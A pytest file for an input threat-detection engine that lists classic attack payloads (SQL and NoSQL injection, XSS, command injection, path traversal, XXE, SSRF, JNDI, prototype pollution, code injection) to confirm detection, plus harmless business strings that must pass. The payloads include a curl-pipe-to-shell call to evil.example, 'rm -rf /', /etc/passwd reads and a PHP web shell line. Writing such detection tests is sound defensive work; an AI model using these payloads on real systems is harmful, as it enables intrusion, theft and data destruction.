"""The attacks everyone knows, by type, and the business data that must pass."""

from __future__ import annotations

from typing import Any

import pytest

from gatewright.threats import DetectionEngine, ThreatType, neighbours

CLASSICS: dict[str, list[Any]] = {
    "sql_injection": [
        "' OR '1'='1",
        "admin'--",
        "1; DROP TABLE users--",
        "' UNION SELECT username, password FROM users--",
        "1' AND SLEEP(5)--",
        "'; EXEC xp_cmdshell('dir'); --",
        {"id": "1 OR 1=1"},
    ],
    "nosql_injection": [
        {"$ne": None},
        '{"$ne": null}',
        '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
        {"username": "admin", "password": {"$regex": ".*"}},
        {"$where": "this.password == 'x'"},
        "user[$ne]=x",
        "'; return true; var x='",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '"><script>alert(document.cookie)</script>',
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert('x')\"></iframe>",
    ],
    "script_injection": ["javascript:alert(1)", "<script>alert('x')</script>", "eval(atob('YWxlcnQoMSk='))"],
    "command_injection": [
        "; cat /etc/passwd",
        "| whoami",
        "&& rm -rf /",
        "`id`",
        "$(curl http://evil.example/x.sh | sh)",
        "test; ls -la",
    ],
    "path_traversal": [
        "../../etc/passwd",
        "../../../../etc/shadow",
        "..\\..\\windows\\system32\\config\\sam",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//etc/passwd",
        "/etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
    ],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(objectClass=*"],
    "xml_injection": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "<!ENTITY % d SYSTEM 'http://evil.example/x.dtd'>",
    ],
    "template_injection": ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__}}"],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8080/admin",
        "http://127.0.0.1:22",
        "http://[::1]/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "http://2130706433/",
        {"webhook": "http://metadata.google.internal/computeMetadata/v1/"},
    ],
    "jndi_injection": ["${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x/a}"],
    "header_injection": ["%0d%0aSet-Cookie: a=b", "x\r\nSet-Cookie: a=b", "en%0d%0aLocation: http://evil.example"],
    "prototype_pollution": [
        {"__proto__": {"isAdmin": True}},
        '{"__proto__": {"isAdmin": true}}',
        {"constructor": {"prototype": {"isAdmin": True}}},
        "__proto__[isAdmin]=true",
    ],
    "code_injection": [
        "__import__('os').system('id')",
        "<?php system($_GET['c']); ?>",
        "require('child_process').exec('id')",
        'O:8:"Evil":1:{s:4:"exec";s:2:"id";}',
        '<!--#exec cmd="id" -->',
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "eval(base64_decode('cGhwaW5mbygpOw=='))",
    ],
}

HARMLESS: list[Any] = [
    "Conan O'Brien",
    "D'Angelo & Sons, 12 Rue de l'Église",
    "Select specialty hospital, union of drop-in clinics",
    "Tools & more; nuts/bolts: 5 > 3",
    "Order #1234 -- thanks!",
    "https://www.example.com/products?category=lamps&sort=price",
    "it's 50% off (or more) today",
    "Müller GmbH & Co. KG",
    "C++ for beginners: a <b>bold</b> start",
    "SELECT your favourite colour",
    '5\' 10" tall shelf, 3/4" bolts',
    "e = mc^2; a + b = c",
    "{name}, your order ships on {date}",
    "Please update the set of brackets and delete from the list the old ones.",
    "contact@acme-industrial.example",
    "+1 (415) 555-2671",
    "12345-6789",
    "C:\\Program Files\\Acme",
    "5 < 6 and 7 > 3",
    "price >= 10 and price <= 20",
    "Programming; Python; Ruby & Perl",
    "eye shadow (4 g), 12 shades",
    "button.onclick = function() {",
    "https://library.example/view?q=sea&location=0&ob=asc",
    "${Env}-${AppName}",
    "*/5 1-22 * * * /opt/shop/bin/report",
    {"name": "Oak shelf", "price": 19.9, "tags": ["wood", "home & garden"], "stock": {"eu": 4, "us": 0}},
    {"query": "query($id: ID!) { product(id: $id) { name price { amount } } }", "variables": {"id": "42"}},
    {"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/definitions/product"},
    {"company_name": "O'Reilly & Associates", "email": "info@oreilly.example", "website": "https://oreilly.example"},
    {"op": "replace", "path": "/price", "value": 10},
    ["a", 1, None, True, {"b": []}],
    "",
    None,
    42,
]


@pytest.mark.parametrize(("kind", "value"), [(kind, value) for kind, values in CLASSICS.items() for value in values])
def test_classic_attacks_are_found_as_what_they_are(engine: DetectionEngine, kind: str, value: Any) -> None:
    """Under their own type, or one of its family."""
    found = engine.inspect(value)
    assert found.threat_detected
    assert {finding.threat_type for finding in found.findings} & neighbours(kind), found.findings


@pytest.mark.parametrize("value", HARMLESS, ids=str)
def test_business_data_passes(engine: DetectionEngine, value: Any) -> None:
    """Apostrophes, ampersands, words of SQL, GraphQL and JSON Schema are no attacks."""
    assert engine.inspect(value).findings == []


def test_a_finding_explains_itself(engine: DetectionEngine) -> None:
    """Rules, place, evidence, a sentence; scores from 0 to 1; the worst first."""
    found = engine.inspect({"products": [{"name": "lamp"}, {"name": "<script>alert(1)</script>"}]})
    worst = found.findings[0]
    assert worst.path == "$.products[1].name"
    assert worst.detected_patterns and worst.severity in ("low", "medium", "high", "critical")
    assert "<script>" in worst.evidence
    assert worst.threat_details["summary"].endswith(".")
    assert worst.threat_details["references"]
    span = worst.metadata["spans"][0]
    assert span["start"] < span["end"]
    assert 0 < worst.risk_score <= 1 and 0 < worst.confidence <= 1
    assert [f.risk_score for f in found.findings] == sorted((f.risk_score for f in found.findings), reverse=True)


def test_decoded_form_is_shown(engine: DetectionEngine) -> None:
    """What is behind the encoding."""
    found = engine.inspect("%3Cscript%3Ealert(1)%3C/script%3E")
    assert found.findings[0].metadata["decoded"] == "<script>alert(1)</script>"
    assert "url" in found.findings[0].metadata["signals"]


def test_types_narrow_what_is_reported(engine: DetectionEngine) -> None:
    """Only findings of these types."""
    assert engine.inspect("' OR '1'='1", types=frozenset({ThreatType.SSRF.value})).threat_detected is False


def test_higher_levels_find_no_less(engine: DetectionEngine) -> None:
    """What level 1 blocks, level 4 blocks."""
    for values in CLASSICS.values():
        for value in values:
            assert engine.inspect(value, level=4).threat_detected


def test_secrets_in_evidence_are_masked(engine: DetectionEngine) -> None:
    """A password beside an attack is not reported."""
    found = engine.inspect("password=hunter2secret' OR '1'='1")
    assert "hunter2secret" not in str(found.to_dict())
